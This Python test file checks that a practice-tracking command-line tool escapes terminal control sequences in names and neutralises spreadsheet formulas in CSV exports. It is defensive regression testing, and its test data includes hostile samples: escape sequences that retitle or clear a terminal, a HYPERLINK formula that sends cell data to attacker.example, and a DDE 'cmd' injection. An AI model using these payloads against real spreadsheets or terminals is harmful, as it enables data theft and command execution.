"""Text from files and other computers never reaches a terminal or a spreadsheet as commands."""

from __future__ import annotations

import csv
import io
import sqlite3

from calm.store import open_store
from tests.faults.files import run_row, script, write_csv

TITLE_SEQ = "\x1b]0;pwned\x07"  # sets the terminal's title
CLEAR = "\x1b[2J"  # clears the screen


def test_titles_captions_and_names_are_escaped_on_the_terminal(calm, calm_home, paths, tmp_path):
    """A practice title or a client's name can no longer set the terminal's title or clear it."""
    folder = calm_home / "data" / "practices"
    script(folder, "evil.toml", id="evil", title="Calm\\u001b]0;pwned\\u0007\\u001b[2J")
    listed = calm("list")
    assert "  evil                 Calm\\x1b]0;pwned\\x07\\x1b[2J" in listed.stdout
    shown = calm("show", "evil")
    assert shown.stdout.startswith("Calm\\x1b]0;pwned\\x07\\x1b[2J (evil)")
    played = calm("play", "evil", "--no-window", stdin="\n" * 8, timeout=180)
    assert played.returncode == 0, played.stderr
    assert "Calm\\x1b]0;pwned\\x07\\x1b[2J — 0:0" in played.stdout
    # A name written by an older version (before names were checked), and an imported
    # practice id holding escape sequences.
    with open_store(paths) as store:
        me = store.default_client().id
    write_csv(tmp_path / "in.csv", [run_row(practice_id=f"ground{CLEAR}", client="Anna")])
    assert calm("import", str(tmp_path / "in.csv")).returncode == 0
    with sqlite3.connect(paths.database) as raw:
        raw.execute("UPDATE clients SET display_name = ? WHERE uuid = ?", (f"Bo{TITLE_SEQ}", me))
    raw.close()
    overview = calm("stats").stdout
    assert "Bo\\x1b]0;pwned\\x07" in overview and "Anna" in overview
    detail = calm("stats", "--client", "Anna").stdout
    assert "  ground\\x1b[2J" in detail
    missing = calm("stats", "--client", f"Zed{CLEAR}")
    assert missing.stderr == (
        "calm-harbor: There is no client called 'Zed\\x1b[2J'. Known: Anna, Bo\\x1b]0;pwned\\x07.\n"
    )
    for done in (listed, shown, played, missing):
        assert "\x1b" not in done.stdout + done.stderr and "\x07" not in done.stdout


def test_formulas_are_neutralised_in_every_csv_cell(calm, tmp_path):
    """An imported practice id `=HYPERLINK(...)` used to be exported raw into the spreadsheet."""
    link = '=HYPERLINK("http://attacker.example/?d="&A2,"Open")'
    write_csv(tmp_path / "in.csv", [run_row(practice_id=link, practice_title="+cmd|'/c calc'!A0")])
    assert calm("import", str(tmp_path / "in.csv")).stdout == (
        "Added 1 client (Anna), 1 practice and 2 ratings.\n"
    )
    assert calm("export", "--all", "-o", str(tmp_path / "out.csv")).returncode == 0
    rows = list(csv.reader(io.StringIO((tmp_path / "out.csv").read_text(), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + link in cells and "'+cmd|'/c calc'!A0" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # Taken back in, it is the same practice: nothing is added twice.
    assert calm("import", str(tmp_path / "out.csv")).stdout == (
        "Added 0 clients, 0 practices and 0 ratings (1 practice already here). Brought in "
        "for Anna, already here.\n"
    )
